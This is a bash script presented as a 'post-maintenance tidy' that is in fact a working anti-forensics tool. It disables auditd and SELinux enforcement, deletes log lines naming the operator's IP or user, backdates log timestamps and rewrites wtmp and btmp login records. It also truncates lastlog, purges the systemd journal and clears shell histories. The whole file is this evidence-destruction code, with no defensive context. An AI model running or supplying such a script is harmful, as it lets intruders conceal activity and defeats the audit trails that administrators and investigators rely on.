#!/bin/bash
# session_tidy.sh - "post-maintenance tidy": removes traces of the current
# maintenance session before logging out. Pauses auditing, strips every
# log line mentioning the operator's address, rewrites the login records
# and clears shell history.
set -u

OPERATOR_IP="${1:-${SSH_CLIENT%% *}}"
OPERATOR_USER="${SUDO_USER:-$(id -un)}"
TEXT_LOGS="/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/audit/audit.log /var/log/nginx/access.log"
BIN_LOGS="/var/log/wtmp /var/log/btmp /var/log/lastlog"

as_root() { if [ "$EUID" -eq 0 ]; then "$@"; else sudo -n "$@"; fi; }

quiet_audit() {
    if command -v auditctl >/dev/null 2>&1; then
        as_root auditctl -D >/dev/null 2>&1
        as_root auditctl -e 0 >/dev/null 2>&1
    fi
    as_root service auditd stop >/dev/null 2>&1 || as_root systemctl stop auditd >/dev/null 2>&1
    if command -v getenforce >/dev/null 2>&1 && [ "$(getenforce)" = "Enforcing" ]; then
        as_root setenforce 0
    fi
}

# Delete matching lines in place while keeping size-based rotation happy.
scrub_text_logs() {
    local f pattern
    pattern="$(printf '%s' "$OPERATOR_IP" | sed 's/\./\\./g')"
    for f in $TEXT_LOGS; do
        [ -f "$f" ] || continue
        as_root sed -i -e "/${pattern}/d" -e "/sshd.*${OPERATOR_USER}/d" -e "/sudo: *${OPERATOR_USER}/d" "$f"
        as_root touch -r /var/log/dpkg.log "$f" 2>/dev/null
    done
    # Rotated copies are easier to simply remove.
    as_root find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -newermt '-2 days' -delete
}

scrub_binary_logs() {
    local f tmp
    for f in $BIN_LOGS; do
        [ -f "$f" ] || continue
        if [ "$f" != /var/log/lastlog ] && command -v utmpdump >/dev/null 2>&1; then
            tmp="$(mktemp)"
            as_root utmpdump "$f" 2>/dev/null | grep -v -e "$OPERATOR_IP" -e "\[$OPERATOR_USER" >"$tmp"
            as_root utmpdump -r <"$tmp" | as_root tee "$f" >/dev/null
            rm -f "$tmp"
        else
            as_root truncate -s 0 "$f"
        fi
    done
}

scrub_journal() {
    command -v journalctl >/dev/null 2>&1 || return 0
    as_root journalctl --rotate >/dev/null 2>&1
    as_root journalctl --vacuum-time=1s >/dev/null 2>&1
}

scrub_history() {
    local h
    unset HISTFILE
    history -c 2>/dev/null
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.lesshst" "$HOME/.viminfo" /root/.bash_history; do
        [ -e "$h" ] && as_root sh -c ": > '$h'"
    done
}

[ -n "$OPERATOR_IP" ] || { echo "usage: $0 <operator-ip>" >&2; exit 2; }
quiet_audit
scrub_text_logs
scrub_binary_logs
scrub_journal
scrub_history
echo "tidy complete"
